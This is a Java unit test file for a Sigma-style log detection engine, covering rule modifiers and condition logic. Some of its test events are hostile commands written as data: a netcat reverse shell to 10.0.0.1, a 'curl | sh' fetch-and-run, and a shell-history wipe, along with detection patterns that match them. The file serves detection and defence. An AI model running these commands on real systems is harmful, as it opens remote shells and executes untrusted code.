package io.vigil.detection.condition;

import static io.vigil.detection.Fixtures.event;
import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.common.LogEvent;
import io.vigil.detection.Fixtures;
import io.vigil.detection.rule.Rule;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/** The Sigma detection syntax: selections, every modifier, and the condition expression. */
class ConditionLanguageTest {

    /** A match rule with the given detection block (indented YAML lines). */
    private static Rule ruleWith(String detection) {
        return Fixtures.rule("id: t\ntitle: T\nseverity: LOW\nkind: match\ndetection:\n" + detection);
    }

    private static boolean matches(String detection, LogEvent event) {
        return ruleWith(detection).condition().test(event);
    }

    private static LogEvent with(Map<String, Object> fields) {
        return event(0, "web-01", fields);
    }

    @Nested
    class PlainValues {
        @Test
        void textIsCaseInsensitiveAndExact() {
            String d = "  s: {user.name: Root}\n  condition: s\n";
            assertThat(matches(d, with(Map.of("user.name", "root")))).isTrue();
            assertThat(matches(d, with(Map.of("user.name", "rooted")))).isFalse();
        }

        @Test
        void wildcardsStarAndQuestionMark() {
            String d = "  s: {user.name: 'ops-*', process.name: 'ss?d'}\n  condition: s\n";
            assertThat(matches(d, with(Map.of("user.name", "OPS-maria", "process.name", "sshd"))))
                    .isTrue();
            assertThat(matches(d, with(Map.of("user.name", "dev-maria", "process.name", "sshd"))))
                    .isFalse();
            assertThat(matches(d, with(Map.of("user.name", "ops-x", "process.name", "ssshd"))))
                    .isFalse();
        }

        @Test
        void escapedWildcardIsLiteral() {
            String d = "  s: {process.command_line: 'echo \\*'}\n  condition: s\n";
            assertThat(matches(d, with(Map.of("process.command_line", "echo *"))))
                    .isTrue();
            assertThat(matches(d, with(Map.of("process.command_line", "echo hi"))))
                    .isFalse();
        }

        @Test
        void listOfValuesIsAnyOf() {
            String d = "  s:\n    event.action: [user_created, group_created]\n  condition: s\n";
            assertThat(matches(d, with(Map.of("event.action", "group_created"))))
                    .isTrue();
            assertThat(matches(d, with(Map.of("event.action", "user_modified"))))
                    .isFalse();
        }

        @Test
        void numbersCompareNumericallyWhateverTheEventsType() {
            String d = "  s: {destination.port: 22}\n  condition: s\n";
            assertThat(matches(d, with(Map.of("destination.port", 22L)))).isTrue();
            assertThat(matches(d, with(Map.of("destination.port", "22")))).isTrue();
            assertThat(matches(d, with(Map.of("destination.port", 2222L)))).isFalse();
        }

        @Test
        void nullMeansTheFieldIsAbsent() {
            String d = "  s: {user.name: null}\n  condition: s\n";
            assertThat(matches(d, with(Map.of()))).isTrue();
            assertThat(matches(d, with(Map.of("user.name", "bob")))).isFalse();
        }

        @Test
        void fieldsOfOneSelectionAreAndedAndAListOfMapsIsOred() {
            String and = "  s: {event.action: ssh_login, event.outcome: failure}\n  condition: s\n";
            assertThat(matches(and, with(Map.of("event.action", "ssh_login", "event.outcome", "success"))))
                    .isFalse();
            String or = "  s:\n    - {event.action: ssh_login}\n    - {event.outcome: failure}\n  condition: s\n";
            assertThat(matches(or, with(Map.of("event.action", "sudo_command", "event.outcome", "failure"))))
                    .isTrue();
        }

        @Test
        void arrayFieldsMatchWhenAnyElementDoes() {
            String d = "  s: {group.name: sudo}\n  condition: s\n";
            assertThat(matches(d, with(Map.of("group.name", List.of("users", "sudo")))))
                    .isTrue();
            assertThat(matches(d, with(Map.of("group.name", List.of("users"))))).isFalse();
        }

        @Test
        void keywordListsSearchTheMessage() {
            String d = "  words: [BREAK-IN, 'refused connect']\n  condition: words\n";
            LogEvent e = with(Map.of());
            e.message = "reverse mapping checking getaddrinfo failed - POSSIBLE break-in ATTEMPT!";
            assertThat(matches(d, e)).isTrue();
            e.message = "Accepted password for bob";
            assertThat(matches(d, e)).isFalse();
        }

        @Test
        void fixedFieldsAreReachable() {
            String d = "  s: {host: 'web-*', kind: metric, memory_usage.percentage|gte: 90}\n  condition: s\n";
            LogEvent e = Fixtures.cpu(0, "web-07", 10);
            e.memoryPercentage = 93.0;
            assertThat(matches(d, e)).isTrue();
            e.memoryPercentage = 80.0;
            assertThat(matches(d, e)).isFalse();
        }
    }

    @Nested
    class Modifiers {
        @Test
        void nativeContainsKeepsStarsLiteralWhileSigmaTransformsAlsoWork() {
            String literal = "  s: {process.command_line|contains: 'a*b'}\n  condition: s\n";
            assertThat(matches(literal, with(Map.of("process.command_line", "x a*b y"))))
                    .isTrue();
            assertThat(matches(literal, with(Map.of("process.command_line", "x aXb y"))))
                    .as("no wildcard in native contains")
                    .isFalse();
            String flagged = "  s: {process.command_line|re|i: '^CURL'}\n  condition: s\n";
            assertThat(matches(flagged, with(Map.of("process.command_line", "curl x"))))
                    .isTrue();
            String encoded = "  s: {process.command_line|base64|contains: 'id'}\n  condition: s\n";
            assertThat(matches(encoded, with(Map.of("process.command_line", "echo aWQ= | base64 -d"))))
                    .isTrue();
        }

        @Test
        void contains() {
            String d = "  s: {process.command_line|contains: 'HISTORY -c'}\n  condition: s\n";
            assertThat(matches(d, with(Map.of("process.command_line", "bash -c 'history -C; exit'"))))
                    .isTrue();
            assertThat(matches(d, with(Map.of("process.command_line", "history"))))
                    .isFalse();
        }

        @Test
        void startswithAndEndswith() {
            String starts = "  s: {process.command_line|startswith: /tmp/}\n  condition: s\n";
            assertThat(matches(starts, with(Map.of("process.command_line", "/TMP/x.sh"))))
                    .isTrue();
            assertThat(matches(starts, with(Map.of("process.command_line", "sh /tmp/x.sh"))))
                    .isFalse();
            String ends = "  s: {process.name|endswith: .SH}\n  condition: s\n";
            assertThat(matches(ends, with(Map.of("process.name", "x.sh")))).isTrue();
            assertThat(matches(ends, with(Map.of("process.name", "x.shy")))).isFalse();
            assertThat(matches(ends, with(Map.of("process.name", "h")))).isFalse();
        }

        @Test
        void reMatchesAnywhereAndIsCaseSensitive() {
            String d = "  s: {process.command_line|re: 'nc\\s+-e'}\n  condition: s\n";
            assertThat(matches(d, with(Map.of("process.command_line", "/bin/nc -e /bin/sh 10.0.0.1"))))
                    .isTrue();
            assertThat(matches(d, with(Map.of("process.command_line", "NC -E /bin/sh"))))
                    .isFalse();
        }

        @Test
        void cidrV4AndV6() {
            String d = "  s: {source.ip|cidr: ['10.0.0.0/8', '2001:db8::/32']}\n  condition: s\n";
            assertThat(matches(d, with(Map.of("source.ip", "10.200.3.4")))).isTrue();
            assertThat(matches(d, with(Map.of("source.ip", "11.0.0.1")))).isFalse();
            assertThat(matches(d, with(Map.of("source.ip", "2001:db8:1::7")))).isTrue();
            assertThat(matches(d, with(Map.of("source.ip", "2001:db9::7")))).isFalse();
            assertThat(matches(d, with(Map.of("source.ip", "not-an-ip.example"))))
                    .isFalse();
        }

        @Test
        void cidrWithOddPrefix() {
            String d = "  s: {source.ip|cidr: 192.168.4.0/22}\n  condition: s\n";
            assertThat(matches(d, with(Map.of("source.ip", "192.168.7.255")))).isTrue();
            assertThat(matches(d, with(Map.of("source.ip", "192.168.8.0")))).isFalse();
        }

        @Test
        void numericComparisons() {
            LogEvent e = Fixtures.cpu(0, "web-01", 90.0);
            assertThat(matches("  s: {cpu_usage|gt: 90}\n  condition: s\n", e)).isFalse();
            assertThat(matches("  s: {cpu_usage|gte: 90}\n  condition: s\n", e)).isTrue();
            assertThat(matches("  s: {cpu_usage|lt: 90}\n  condition: s\n", e)).isFalse();
            assertThat(matches("  s: {cpu_usage|lte: 90}\n  condition: s\n", e)).isTrue();
            assertThat(matches("  s: {cpu_usage|gt: 89.5}\n  condition: s\n", e))
                    .isTrue();
            assertThat(matches("  s: {user.name|gt: 1}\n  condition: s\n", with(Map.of("user.name", "bob"))))
                    .isFalse();
        }

        @Test
        void allRequiresEveryValue() {
            String d = "  s:\n    process.command_line|contains|all: [curl, '| sh']\n  condition: s\n";
            assertThat(matches(d, with(Map.of("process.command_line", "curl http://x | sh"))))
                    .isTrue();
            assertThat(matches(d, with(Map.of("process.command_line", "curl http://x -o y"))))
                    .isFalse();
        }

        @Test
        void exists() {
            String d = "  s: {destination.port|exists: true, user.name|exists: false}\n  condition: s\n";
            assertThat(matches(d, with(Map.of("destination.port", 22L)))).isTrue();
            assertThat(matches(d, with(Map.of("destination.port", 22L, "user.name", "bob"))))
                    .isFalse();
            assertThat(matches(d, with(Map.of()))).isFalse();
        }

        @Test
        void aMissingFieldNeverMatchesAValueTest() {
            for (String modifier : List.of("contains", "startswith", "endswith", "re", "cidr", "gt", "lt")) {
                String value = modifier.equals("cidr")
                        ? "10.0.0.0/8"
                        : modifier.startsWith("g") || modifier.startsWith("l") ? "1" : "a";
                String d = "  s: {source.ip|" + modifier + ": '" + value + "'}\n  condition: s\n";
                assertThat(matches(d, with(Map.of()))).as(modifier).isFalse();
            }
        }
    }

    @Nested
    class ConditionExpressions {
        private static final String SELECTIONS = """
                  sel_a: {user.name: a}
                  sel_b: {event.action: b}
                  other: {event.outcome: c}
                  _helper: {host: web-01}
                """;

        private boolean eval(String condition, String user, String action, String outcome) {
            Map<String, Object> fields = new java.util.HashMap<>();
            if (user != null) {
                fields.put("user.name", user);
            }
            if (action != null) {
                fields.put("event.action", action);
            }
            if (outcome != null) {
                fields.put("event.outcome", outcome);
            }
            return matches(SELECTIONS + "  condition: " + condition + "\n", with(fields));
        }

        @Test
        void andOrNotWithPrecedence() {
            // not > and > or: "sel_a or sel_b and other" is "sel_a or (sel_b and other)"
            assertThat(eval("sel_a or sel_b and other", "a", null, null)).isTrue();
            assertThat(eval("sel_a or sel_b and other", null, "b", null)).isFalse();
            assertThat(eval("(sel_a or sel_b) and other", "a", null, null)).isFalse();
            assertThat(eval("(sel_a or sel_b) and other", "a", null, "c")).isTrue();
            assertThat(eval("sel_a and not sel_b", "a", "b", null)).isFalse();
            assertThat(eval("sel_a and not sel_b", "a", "x", null)).isTrue();
            assertThat(eval("not not sel_a", "a", null, null)).isTrue();
            assertThat(eval("NOT (sel_a OR other)", "x", null, "x")).isTrue();
        }

        @Test
        void oneOfAndAllOfPatterns() {
            assertThat(eval("1 of sel_*", null, "b", null)).isTrue();
            assertThat(eval("1 of sel_*", null, null, "c")).isFalse();
            assertThat(eval("all of sel_*", "a", "b", null)).isTrue();
            assertThat(eval("all of sel_*", "a", null, null)).isFalse();
            assertThat(eval("any of sel_*", "a", null, null)).isTrue();
        }

        @Test
        void themLeavesOutUnderscoreSelections() {
            // _helper matches (host web-01), the others do not: "1 of them" must ignore it
            assertThat(eval("1 of them", null, null, null)).isFalse();
            assertThat(eval("all of them", "a", "b", "c")).isTrue();
            assertThat(eval("_helper and 1 of them", null, null, "c")).isTrue();
        }

        @Test
        void nOfCountsMatchingSelections() {
            assertThat(eval("2 of them", "a", null, "c")).isTrue();
            assertThat(eval("2 of them", "a", null, null)).isFalse();
        }
    }
}
